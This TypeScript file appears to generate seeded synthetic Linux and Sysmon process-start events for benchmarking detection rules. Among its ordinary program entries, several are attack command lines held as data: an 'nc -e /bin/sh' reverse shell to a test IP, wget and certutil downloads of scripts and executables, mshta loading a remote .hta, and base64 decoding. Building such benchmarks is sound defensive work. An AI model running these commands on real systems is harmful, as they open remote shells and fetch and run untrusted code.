/**
 * Events for the benchmark of the rules, made up but true to life: what a Linux host's processes look like to the process
 * collector, and a Windows host's to Sysmon (event 1, its own field names). The same seed gives the same events.
 */

import { seeded } from "./events.ts";
import type { EventJson, Fields } from "../../src/core/event.ts";

/** Draws from lists, with the first more often than the last. */
interface Dice {
  number(below: number): number;
  pick<T>(from: readonly [T, ...T[]]): T;
  hex(length: number): string;
  word(): string;
}

const SYLLABLES = [
  "ba",
  "con",
  "data",
  "er",
  "fi",
  "ga",
  "in",
  "log",
  "ma",
  "net",
  "op",
  "re",
  "sys",
  "ta",
  "ux",
] as const;

function createDice(seed: number): Dice {
  const random = seeded(seed);
  const number = (below: number) => Math.floor(random() * below);
  return {
    number,
    pick: (from) => from[Math.floor(random() * random() * from.length)] ?? from[0],
    hex: (length) => Array.from({ length }, () => number(16).toString(16)).join(""),
    word: () => Array.from({ length: 2 + number(2) }, () => SYLLABLES[number(SYLLABLES.length)] ?? "").join(""),
  };
}

/** A program and the arguments it is given. */
type Program = readonly [path: string, args: (dice: Dice) => readonly string[]];

const LINUX_PROGRAMS: readonly [Program, ...Program[]] = [
  ["/usr/bin/bash", (d) => ["-c", `cd /srv/${d.word()} && make ${d.word()} > /tmp/${d.word()}.log 2>&1`]],
  ["/usr/bin/sed", (d) => ["-n", `s/^${d.word()}=//p`, `/etc/${d.word()}/${d.word()}.conf`]],
  ["/usr/bin/grep", (d) => ["-rn", d.word(), `/var/log/${d.word()}`]],
  ["/usr/lib/gcc/x86_64-linux-gnu/12/cc1", (d) => ["-quiet", `-I/usr/include/${d.word()}`, `src/${d.word()}.c`, "-O2"]],
  ["/usr/bin/python3.11", (d) => [`/opt/${d.word()}/bin/${d.word()}.py`, "--port", String(1024 + d.number(60000))]],
  ["/usr/bin/cat", (d) => [`/proc/${d.number(40000)}/status`]],
  ["/usr/bin/git", (d) => ["fetch", "--quiet", `https://git.example.org/${d.word()}/${d.word()}.git`]],
  ["/usr/sbin/sshd", (d) => ["-D", "-R", `${d.word()} [priv]`]],
  ["/usr/bin/node", (d) => ["--max-old-space-size=4096", `/srv/app/${d.word()}/server.js`, `--id=${d.hex(16)}`]],
  ["/usr/sbin/cron", () => ["-f", "-P"]],
  ["/usr/bin/curl", (d) => ["-fsSL", "-o", `/tmp/${d.word()}`, `https://${d.word()}.example.com/api/v1/${d.word()}`]],
  [
    "/usr/bin/rsync",
    (d) => ["-az", "--delete", `/srv/${d.word()}/`, `backup@10.0.0.${d.number(255)}:/backup/${d.word()}`],
  ],
  ["/usr/bin/systemctl", (d) => ["restart", `${d.word()}.service`]],
  ["/usr/bin/find", (d) => [`/home/${d.word()}`, "-name", `*.${d.word()}`, "-mtime", "+7", "-delete"]],
  ["/usr/bin/crontab", () => ["-l"]],
  ["/usr/bin/wget", (d) => ["-q", `http://198.51.100.${d.number(255)}/${d.word()}.sh`, "-O", "/tmp/.x"]],
  ["/usr/bin/base64", (d) => ["-d", `/tmp/${d.word()}`]],
  ["/usr/bin/nc", (d) => ["-e", "/bin/sh", `203.0.113.${d.number(255)}`, "4444"]],
];

const LINUX_USERS = ["root", "www-data", "postgres", "alice", "bob", "deploy", "backup"] as const;

/** A process that started on a Linux host, in the fields of the process collector. */
function linuxProcess(dice: Dice, index: number): EventJson {
  const [executable, args] = dice.pick(LINUX_PROGRAMS);
  const [parentExecutable, parentArgs] = dice.pick(LINUX_PROGRAMS);
  const list = [executable, ...args(dice)];
  const name = (path: string) => path.slice(path.lastIndexOf("/") + 1);
  const pid = 1000 + dice.number(60_000);
  const fields: Fields = {
    "process.pid": pid,
    "process.name": name(executable),
    "process.executable": executable,
    "process.command_line": list.join(" "),
    "process.args": list,
    "process.args_count": list.length,
    "process.working_directory": `/srv/${dice.word()}`,
    "process.entity_id": `${dice.hex(8)}-${pid}-${index}`,
    "process.start": new Date(1_760_000_000_000 + index * 40).toISOString(),
    "process.state": "running",
    "process.threads.count": 1 + dice.number(8),
    "process.memory.resident.bytes": 4096 * dice.number(100_000),
    "process.parent.pid": 1 + dice.number(1000),
    "process.parent.name": name(parentExecutable),
    "process.parent.executable": parentExecutable,
    "process.parent.command_line": [parentExecutable, ...parentArgs(dice)].join(" "),
    "user.name": dice.pick(LINUX_USERS),
    "user.id": String(dice.number(2000)),
  };
  return eventOf("process", "process.start", "web-1", fields, index);
}

const WINDOWS_PROGRAMS: readonly [Program, ...Program[]] = [
  ["C:\\Windows\\System32\\svchost.exe", (d) => ["-k", "netsvcs", "-p", "-s", d.word()]],
  [
    "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
    (d) => ["--type=renderer", `--lang=en-US --field-trial-handle=${d.number(9999)},i,${d.hex(16)}`],
  ],
  ["C:\\Windows\\System32\\conhost.exe", () => ["0xffffffff", "-ForceV1"]],
  [
    "C:\\Windows\\System32\\cmd.exe",
    (d) => ["/c", `"C:\\Program Files\\${d.word()}\\${d.word()}.bat" > C:\\Temp\\${d.word()}.log`],
  ],
  [
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    (d) => ["-NoProfile", "-ExecutionPolicy", "Bypass", "-File", `C:\\ProgramData\\${d.word()}\\${d.word()}.ps1`],
  ],
  ["C:\\Windows\\System32\\taskhostw.exe", (d) => [d.word()]],
  ["C:\\Windows\\System32\\RuntimeBroker.exe", () => ["-Embedding"]],
  ["C:\\Windows\\System32\\rundll32.exe", (d) => [`C:\\Windows\\System32\\${d.word()}.dll,${d.word()}`]],
  ["C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", (d) => ["/restore", `/m ${d.word()}`]],
  ["C:\\Windows\\System32\\sc.exe", (d) => ["query", d.word()]],
  ["C:\\Windows\\System32\\net1.exe", (d) => ["use", `\\\\fs01\\${d.word()}`]],
  ["C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", () => ["-secured", "-Embedding"]],
  [
    "C:\\Users\\alice\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe",
    (d) => ["--type=gpu-process", `--gpu=${d.hex(24)}`],
  ],
  [
    "C:\\Windows\\System32\\reg.exe",
    (d) => ["add", `HKCU\\Software\\${d.word()}\\${d.word()}`, "/v", d.word(), "/d", "1", "/f"],
  ],
  ["C:\\Windows\\System32\\schtasks.exe", (d) => ["/query", "/tn", `\\${d.word()}\\${d.word()}`, "/fo", "list"]],
  [
    "C:\\Windows\\System32\\certutil.exe",
    (d) => ["-urlcache", "-f", `http://198.51.100.${d.number(255)}/${d.word()}.exe`, `${d.word()}.exe`],
  ],
  ["C:\\Windows\\System32\\mshta.exe", (d) => [`http://${d.word()}.example.com/${d.word()}.hta`]],
];

const WINDOWS_USERS = [
  "NT AUTHORITY\\SYSTEM",
  "CORP\\alice",
  "CORP\\bob",
  "NT AUTHORITY\\NETWORK SERVICE",
  "CORP\\svc-sql",
] as const;
const INTEGRITY_LEVELS = ["System", "Medium", "High", "Low"] as const;

/** A process that started on a Windows host, as Sysmon's event 1 has it; `host.os.type` routes it. */
function windowsProcess(dice: Dice, index: number): EventJson {
  return eventOf("logs", "process.start", "pc-17", { "host.os.type": "windows", ...sysmonProcess(dice, index) }, index);
}

function sysmonProcess(dice: Dice, index: number): Fields {
  const [image, args] = dice.pick(WINDOWS_PROGRAMS);
  const [parentImage, parentArgs] = dice.pick(WINDOWS_PROGRAMS);
  const file = image.slice(image.lastIndexOf("\\") + 1);
  const commandLine = (path: string, rest: readonly string[]) => [`"${path}"`, ...rest].join(" ");
  return {
    "EventID": 1,
    "Channel": "Microsoft-Windows-Sysmon/Operational",
    "Provider_Name": "Microsoft-Windows-Sysmon",
    "Computer": "pc-17.corp.example.com",
    "UtcTime": new Date(1_760_000_000_000 + index * 40).toISOString(),
    "ProcessGuid": `{${dice.hex(8)}-${dice.hex(4)}-${dice.hex(4)}-0000-${dice.hex(12)}}`,
    "ProcessId": 4 * dice.number(10_000),
    "Image": image,
    "FileVersion": "10.0.19041.1 (WinBuild.160101.0800)",
    "Description": `${file.slice(0, -4)} host process`,
    "Product": "Microsoft® Windows® Operating System",
    "Company": "Microsoft Corporation",
    "OriginalFileName": file,
    "CommandLine": commandLine(image, args(dice)),
    "CurrentDirectory": dice.number(3) === 0 ? `C:\\Users\\${dice.word()}\\` : "C:\\Windows\\system32\\",
    "User": dice.pick(WINDOWS_USERS),
    "LogonId": `0x${dice.hex(6)}`,
    "IntegrityLevel": dice.pick(INTEGRITY_LEVELS),
    "Hashes": `MD5=${dice.hex(32)},SHA256=${dice.hex(64)},IMPHASH=${dice.hex(32)}`.toUpperCase(),
    "ParentProcessGuid": `{${dice.hex(8)}-${dice.hex(4)}-${dice.hex(4)}-0000-${dice.hex(12)}}`,
    "ParentProcessId": 4 * dice.number(10_000),
    "ParentImage": parentImage,
    "ParentCommandLine": commandLine(parentImage, parentArgs(dice)),
    "ParentUser": dice.pick(WINDOWS_USERS),
  };
}

function eventOf(source: string, kind: string, host: string, fields: Fields, index: number): EventJson {
  return {
    id: `bench:${index}`,
    time: new Date(1_760_000_000_000 + index * 40).toISOString(),
    source,
    kind,
    host,
    fields,
  };
}

/** So many lines of JSON, each a process that started on a Linux host. */
export function linuxLines(count: number, seed: number): string[] {
  const dice = createDice(seed);
  return Array.from({ length: count }, (_, i) => JSON.stringify(linuxProcess(dice, i)));
}

/** So many lines of JSON, each a process that started on a Windows host. */
export function windowsLines(count: number, seed: number): string[] {
  const dice = createDice(seed);
  return Array.from({ length: count }, (_, i) => JSON.stringify(windowsProcess(dice, i)));
}

/** So many lines of JSON, each a foreign event as Sysmon writes it: nothing says where it belongs. */
export function foreignLines(count: number, seed: number): string[] {
  const dice = createDice(seed);
  return Array.from({ length: count }, (_, i) => JSON.stringify(sysmonProcess(dice, i)));
}
